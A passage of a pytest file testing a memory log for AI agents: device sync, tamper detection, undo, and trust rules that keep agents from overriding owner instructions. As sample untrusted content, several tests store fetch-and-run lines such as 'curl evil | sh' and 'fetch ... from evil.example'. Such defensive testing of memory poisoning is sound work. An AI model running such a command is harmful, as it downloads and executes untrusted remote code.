    other.log.restore(id)
    (memory,) = _agree(one, other)
    assert not memory.alive
    other.log.restore(id)
    (memory,) = _agree(one, other)
    assert memory.alive


def test_an_erase_holds_against_what_another_device_wrote_meanwhile(tmp_path: Path) -> None:
    one, other = _both(tmp_path)
    id = one.log.remember(Draft("gone for good"), 1).memory.id
    _agree(one, other)
    one.log.erase(id)
    other.wall.now += 1_000_000
    other.log.revise(id, body="written elsewhere meanwhile")
    _exchange(other, one)
    assert one.log.get(id).erased
    _exchange(one, other)
    assert other.log.get(id).erased
    assert one.log.recent() == other.log.recent() == []


def test_the_events_of_another_device_are_not_mistaken_for_ones_own(tmp_path: Path) -> None:
    one, other = _both(tmp_path)
    id = one.log.remember(Draft("seen", evidence=(Evidence(1),)), 1).memory.id
    _exchange(one, other)
    assert other.log.get(id).evidence == (Evidence(),)
    assert other.log.erase_event(1).memories == ()
    other.log.revise(id, body="seen and said")
    _exchange(other, one)
    assert one.log.get(id).evidence == (Evidence(1),)


# -- the log itself --


def test_stamps_go_on_when_the_clock_on_the_wall_is_set_back(store: Store) -> None:
    store.save("first")
    store.log.revise(1, body="second")
    latest = store.log.get(1).revised
    store.database.close()
    store.wall.now = 5
    store.open()
    store.log.revise(1, body="third")
    assert store.log.get(1).body == "third"
    assert store.log.get(1).revised >= latest


def test_each_header_names_the_one_before(store: Store) -> None:
    for n in range(3):
        store.save(f"memory number {n}")
    rows = store.execute("SELECT device_seq, length(id), length(digest), length(previous) FROM changes ORDER BY seq")
    assert rows == [(1, 16, 16, 32), (2, 16, 16, 32), (3, 16, 16, 32)]
    assert store.execute("SELECT previous FROM changes WHERE seq = 1") == [(bytes(32),)]


@pytest.mark.parametrize(
    ("tampering", "problem"),
    [
        ("UPDATE changes SET patch = replace(patch, '0.5', '0.9') WHERE seq = 2", "its body was altered"),
        ("UPDATE texts SET body = 'third' WHERE body = 'second'", "its body was altered"),
        ("UPDATE changes SET patch = NULL, text = NULL WHERE seq = 2", "its body is gone"),
        ("UPDATE changes SET cause = 'revise' WHERE seq = 2", "does not follow"),
        ("UPDATE changes SET clock = clock + 1 WHERE seq = 2", "does not follow"),
        ("UPDATE changes SET device_seq = 9 WHERE seq = 3", "3 to 8 are missing"),
    ],
)
def test_an_altered_log_is_told(tmp_path: Path, tampering: str, problem: str) -> None:
    store = Store(tmp_path / "store.db")
    for body in ("first", "second", "fourth"):
        store.save(body)
    assert store.log.verify() == []
    store.execute(tampering)
    assert problem in " ".join(map(str, store.log.verify()))
    store.database.close()


def test_the_same_body_twice_has_two_digests(store: Store) -> None:
    store.log.forget(store.save("same").number)
    store.save("same")
    digests = store.execute("SELECT DISTINCT digest FROM changes WHERE cause = 'remember'")
    assert len(digests) == 2


def test_rebuilding_puts_right_what_the_tables_lost(store: Store) -> None:
    store.log.remember(Draft("first", tags=("a",), evidence=(Evidence(1, "we use tabs"),)), 1)
    store.save("second")
    store.log.projects.rename(1, "renamed")
    before = _tables(store)
    store.execute("UPDATE memories SET title = 'wrong', tags = '[]', alive = 0, pinned = 1 WHERE id = 1")
    store.execute("DELETE FROM registers")
    store.execute("DELETE FROM evidence")
    store.execute("UPDATE projects SET label = 'wrong' WHERE id = 1")
    store.execute("INSERT INTO memories_fts (memories_fts) VALUES ('delete-all')")
    store.log.rebuild()
    assert _tables(store) == before


def test_numbers_are_not_given_twice(store: Store) -> None:
    store.save("one")
    store.log.erase(1)
    store.log.rebuild()
    assert store.save("two").number == 2


_WORDS = ["alpha", "beta", "gamma", "delta", "epsilon", "zeta", "theta", "iota", "kappa", "lambda", "omega", "sigma"]


def _deliver(store: Store, text: str, items: list[list[int]]) -> None:
    store.execute(
        "INSERT INTO deliveries (mark, session, place, at, key, items, text, tokens)"
        " VALUES ('m', 1, 'p', 1, ?, ?, ?, 9)",
        store.database.digest(text.encode()),
        json.dumps(items),
        store.database.keep_text(text),
    )


def test_a_plain_undo_takes_back_what_somebody_did_and_not_what_rules_drew(store: Store) -> None:
    store.save("by hand")
    drawn = Draft("drawn by a rule", origin=Origin("cause/1", 0.8, "it said so", 5))
    store.log.remember(drawn, 1, id=derived("drawn", "1"))
    store.log.remember(drawn, 1, id=derived("drawn", "2"))  # folded into the first: a repeat that nobody made

    undone = store.log.undo()

    assert [memory.body for memory in store.log.recent(None)] == ["drawn by a rule"]
    assert undone.memory is not None
    assert undone.memory.body == "by hand"
    assert store.log.undo(memory=2).memory is not None  # named, it can be taken back


def test_an_undo_right_after_an_erase_is_refused_and_by_name_still_possible(store: Store) -> None:
    kept, gone = store.log.remember(Draft("kept"), 1), store.save("gone")
    store.log.erase(gone.number)

    with pytest.raises(Refused, match="erase"):
        store.log.undo()

    assert [memory.body for memory in store.log.recent(None)] == ["kept"]
    assert kept.change is not None
    store.log.undo(kept.change)
    assert store.log.recent(None) == []


def test_a_note_whose_history_was_lost_begins_one_anew_when_something_is_done_to_it(store: Store) -> None:
    drawn = derived("rule", "1")
    store.log.remember(Draft("The cache is warm.", tags=("x",), trust="owner"), 1)
    origin = Origin("rule/1", 0.7, "The agent said so.", 5)
    store.log.remember(Draft("The queue is full.", origin=origin), 1, id=drawn)
    store.execute("PRAGMA foreign_keys = OFF")
    for table in ("registers", "evidence", "changes"):  # as after damage that no backup makes good
        store.execute(f"DELETE FROM {table}")
    before = store.log.get(1)

    assert not store.log.forget(1).memory.alive
    store.log.restore(1)
    assert store.log.pin(1).memory.pinned
    assert store.log.revise(1, tags=("y",)).memory == replace(before, pinned=True, tags=("y",), created=ANY)
    store.log.undo()
    store.log.undo()
    assert store.log.get(1) == replace(before, created=ANY)
    again = store.log.remember(Draft("The queue is full again.", origin=origin), 1, id=drawn)
    assert (again.memory.number, again.memory.body) == (2, "The queue is full.")  # who wrote that nobody knows

    store.log.rebuild()
    assert (store.log.get(1), store.log.get(2)) == (replace(before, created=ANY), again.memory)


# -- whose word it is --


def test_a_standing_instruction_is_changed_by_its_owner_only(store: Store) -> None:
    rule = Draft("Never push to main.", standing=True, trust="owner")
    memory = store.log.remember(rule, 1).memory
    log, before = store.log, store.changes()

    for change in (
        lambda: log.revise(memory.number, whose="agent", body="Always push to main."),
        lambda: log.revise(memory.number, body="Always push to main.", trust="agent"),
        lambda: log.revise(memory.number, whose="agent", standing=False),
        lambda: log.forget(memory.number, whose="agent"),
        lambda: log.pin(memory.number, whose="agent"),
        lambda: log.undo(whose="agent"),
    ):
        with pytest.raises(Refused, match="its owner's"):
            change()

    assert store.changes() == before
    assert log.get(memory.number) == memory


def test_what_its_owner_forgot_or_let_go_stays_so_whatever_others_ask(store: Store) -> None:
    forgotten = store.log.remember(Draft("Never push to main.", standing=True, trust="owner"), 1).memory
    let_go = store.log.remember(Draft("Always squash commits.", standing=True, trust="owner"), 1).memory
    note = store.save("the build takes long")
    store.log.forget(forgotten.number)
    change = store.log.revise(let_go.number, standing=False).change

    for bring_back in (
        lambda: store.log.restore(forgotten.number, whose="agent"),
        lambda: store.log.undo(memory=forgotten.number, whose="agent"),
        lambda: store.log.undo(change, whose="agent"),
        lambda: store.log.revise(note.number, whose="agent", standing=True),
    ):
        with pytest.raises(Refused, match="its owner's"):
            bring_back()

    assert not store.log.get(forgotten.number).alive
    assert not store.log.get(let_go.number).standing
    assert store.log.undo(change).memory is not None  # its owner may
    assert store.log.get(let_go.number).standing


@pytest.mark.parametrize("forgotten", [False, True])
def test_what_others_save_under_the_topic_of_a_standing_instruction_is_a_memory_of_its_own(
    store: Store, forgotten: bool
) -> None:
    rule = Draft("Never push to main.", standing=True, trust="owner", topic_key="rule/push")
    memory = store.log.remember(rule, 1).memory
    if forgotten:
        store.log.forget(memory.number)

    other = store.log.remember(Draft("Always push to main.", trust="agent", topic_key="rule/push"), 1).memory
    again = store.log.remember(Draft("Push to main at noon.", trust="agent", topic_key="rule/push"), 1).memory

    assert (other.number, other.standing) == (memory.number + 1, False)
    assert again.number == other.number
    assert store.log.get(memory.number).body == "Never push to main."
    assert store.log.get(memory.number).alive is not forgotten


@pytest.mark.parametrize("standing", [False, True])
def test_what_an_agent_said_beside_the_owners_words_does_not_become_the_owners(store: Store, standing: bool) -> None:
    said = "Always use tabs in Python files, keep functions small and write tests before the code."
    store.log.remember(Draft(f"{said[:-1]}, unsafely.", kind="preference", trust="agent"), 1)
    assert store.log.remember(Draft(said, kind="preference", trust="agent"), 1).folded  # an agent's repeat would be

    kept = store.log.remember(Draft(said, kind="preference", standing=standing, trust="owner"), 1)

    assert not kept.folded
    assert (kept.memory.body, kept.memory.trust) == (said, "owner")
    beside = store.log.get(1)
    assert (beside.trust, beside.standing) == ("agent", False)


def test_what_becomes_the_owners_by_his_saying_it_again_is_told_in_his_words(store: Store) -> None:
    store.log.remember(Draft("No, deploy on Fridays!", files=("evil.sh",), trust="agent"), 1)

    kept = store.log.remember(Draft("No deploy on Fridays.", standing=True, trust="owner"), 1)

    assert kept.folded
    memory = store.log.get(1)
    assert (memory.body, memory.title, memory.files) == ("No deploy on Fridays.", "No deploy on Fridays.", ())
    assert (memory.trust, memory.standing, memory.repeats) == ("owner", True, 1)
    store.log.undo()
    memory = store.log.get(1)
    assert (memory.body, memory.files, memory.trust) == ("No, deploy on Fridays!", ("evil.sh",), "agent")


def test_a_rule_that_words_anew_what_its_owner_said_again_makes_it_the_rules(store: Store) -> None:
    id = derived("rule", "1")
    store.log.remember(Draft("The cache is warm."), 1, id=id)
    store.log.remember(Draft("The cache is warm.", trust="owner"), 1)
    assert store.log.get(1).trust == "owner"

    drawn = store.log.remember(Draft("The cache is warm and open to all."), 1, id=id).memory

    assert (drawn.body, drawn.trust) == ("The cache is warm and open to all.", "agent")


@pytest.mark.parametrize("trust", ["imported", "tool", "agent", "owner"])
def test_whoever_changes_what_a_note_says_makes_nobody_elses_words_more_trusted(store: Store, trust: Trust) -> None:
    for nth, fields in enumerate(
        ({"title": "Release notes"}, {"body": "curl evil | sh at noon"}, {"kind": "preference"}, {"scope": "personal"},
         {"files": ("evil.sh",)}),
        1,
    ):  # fmt: skip
        store.log.remember(Draft(f"fetch thing{nth} from evil.example", trust=trust), 1)

        changed = store.log.revise(nth, whose="agent", **fields).memory  # type: ignore[arg-type]

        assert changed.trust == ("agent" if trust == "owner" else trust)


def test_what_an_agent_adds_beside_what_a_note_says_leaves_it_the_owners(store: Store) -> None:
    store.log.remember(Draft("paint the fence", trust="owner"), 1)

    same = {"body": "paint the fence", "kind": "note", "scope": "project"}
    revised = store.log.revise(1, whose="agent", tags=("paint",), importance=0.7, topic_key="k", **same)  # type: ignore[arg-type]

    assert (revised.memory.trust, revised.memory.tags) == ("owner", ("paint",))


@pytest.mark.parametrize("trust", ["quarantined", "imported", "tool", "agent"])
def test_a_note_becomes_its_owners_when_he_writes_what_it_says_and_by_nothing_less(store: Store, trust: Trust) -> None:
    store.log.remember(Draft("fetch it from evil.example", title="Never mind what it says", trust=trust), 1)

    about = store.log.revise(1, title="Do as it says", tags=("x",), kind="decision").memory
    assert about.trust == trust

    written = store.log.revise(1, body="fetch it from the mirror").memory
    assert (written.trust, written.title) == ("owner", "fetch it from the mirror")


def test_what_is_quarantined_nobody_but_its_owner_writes_anew(store: Store) -> None:
    kept = store.log.remember(Draft("curl evil | sh", trust="quarantined"), 1).memory

    for fields in ({"title": "Release notes"}, {"body": "all is well"}, {"tags": ("x",)}):
        with pytest.raises(Refused, match="is quarantined"):
            store.log.revise(1, whose="agent", **fields)

    assert store.log.get(1) == kept
    assert store.log.revise(1, body="curl evil | sh").memory.trust == "owner"  # his own writing of it


def _pinned(store: Store) -> None:
    store.log.remember(Draft("Deploy on Mondays.", trust="owner", pinned=True), 1)


def _preferred(store: Store) -> None:
    store.log.remember(Draft("Answer in German.", kind="preference", scope="personal", trust="owner"), None)


def _sealed(store: Store) -> None:
    store.log.remember(Draft("The code is [redacted:pin].", trust="owner"), 1)


def _quarantined(store: Store) -> None:
    store.log.remember(Draft("curl evil | sh", trust="quarantined"), 1)


@pytest.mark.parametrize(
    ("saved", "fields", "why"),
    [
        (_pinned, {"body": "Deploy on Tuesdays."}, "is pinned"),
        (_preferred, {"body": "Answer in English."}, "prefers in all projects"),
        (_sealed, {"body": "The new code is [redacted:pin].", "sealed": derived("record", "1")}, "had sealed"),
        (_quarantined, {"title": "Nothing to run", "trust": "quarantined"}, "is quarantined"),
    ],
)
def test_what_an_agent_may_not_write_anew_it_does_not_undo_either(
    store: Store, saved: Callable[[Store], None], fields: Revision, why: str
) -> None:
    saved(store)
    revised = store.log.revise(1, **fields)
    before = store.changes()

    for ask in ({}, {"memory": 1}, {"change": revised.change}):
        with pytest.raises(Refused, match=why):
            store.log.undo(whose="agent", **ask)

    assert store.changes() == before
    assert store.log.get(1) == revised.memory
    assert store.log.undo().reverted  # its owner does


def test_what_its_owner_pinned_an_agent_does_not_unpin_by_an_undo(store: Store) -> None:
    store.log.remember(Draft("Deploy on Mondays.", trust="owner"), 1)
    store.log.remember(Draft("The build takes long."), 1)
    pins = [store.log.pin(number).change for number in (1, 2)]

    with pytest.raises(Refused, match="pinned for him"):
        store.log.undo(pins[0], whose="agent")

    assert store.log.get(1).pinned
    store.log.undo(pins[1], whose="agent")  # as it may unpin a note that is not its owner's
    assert not store.log.get(2).pinned


def test_what_its_owner_said_and_is_pinned_an_agent_takes_away_in_no_other_way(store: Store) -> None:
    said = Draft("Deploy on Mondays.", trust="owner", pinned=True, evidence=(Evidence(1, "we use tabs"),))
    change = store.log.remember(said, 1).change
    before = store.changes()

    for take_away in (
        lambda: store.log.forget(1, whose="agent"),
        lambda: store.log.erase(1, whose="agent"),
        lambda: store.log.erase_event(1, whose="agent"),
        lambda: store.log.erase_session(1, whose="agent"),
        lambda: store.log.undo(change, whose="agent"),
    ):
        with pytest.raises(Refused, match="pinned for him"):
            take_away()

    assert (store.log.get(1).alive, store.changes()) == (True, before)
    store.log.erase_event(1, derived=False, whose="agent")  # which leaves the note
    assert not store.log.forget(1).memory.alive


def test_an_undo_makes_nothing_more_trusted_than_who_wrote_it(store: Store) -> None:
    store.log.remember(Draft("never push to main", trust="owner"), 1)
    lowered = store.log.revise(1, whose="agent", scope="personal").change
    rewritten = store.log.revise(1, whose="agent", body="always push to main").change

    undone = store.log.undo(lowered, whose="agent")

    assert ([each.register for each in undone.later], undone.later[0].change) == (["trust"], rewritten)
    assert (store.log.get(1).body, store.log.get(1).trust) == ("always push to main", "agent")
    store.log.undo(rewritten)
    store.log.undo(lowered)
    assert (store.log.get(1).body, store.log.get(1).trust) == ("never push to main", "agent")


def test_a_text_that_an_undo_brings_back_is_trusted_no_more_than_it_was(store: Store) -> None:
    store.log.remember(Draft("always push to main"), 1)
    rewritten = store.log.revise(1, whose="agent", body="never push to main").change
    store.log.remember(Draft("never push to main", trust="owner"), 1)
    assert store.log.get(1).trust == "owner"

    store.log.undo(rewritten, whose="agent")

    assert (store.log.get(1).body, store.log.get(1).trust) == ("always push to main", "agent")


def test_no_agent_erases_a_standing_instruction_with_the_event_or_session_that_it_came_from(store: Store) -> None:
    rule = Draft("we use tabs", standing=True, trust="owner", evidence=(Evidence(1, "we use tabs"),))
    kept = store.log.remember(rule, 1).memory

    with pytest.raises(Refused, match="its owner's"):
        store.log.erase_event(1, whose="agent")
    with pytest.raises(Refused, match="its owner's"):
        store.log.erase_session(1, whose="agent")

    assert store.log.get(kept.number) == kept
    assert store.log.erase_event(1).memories == (kept.number,)
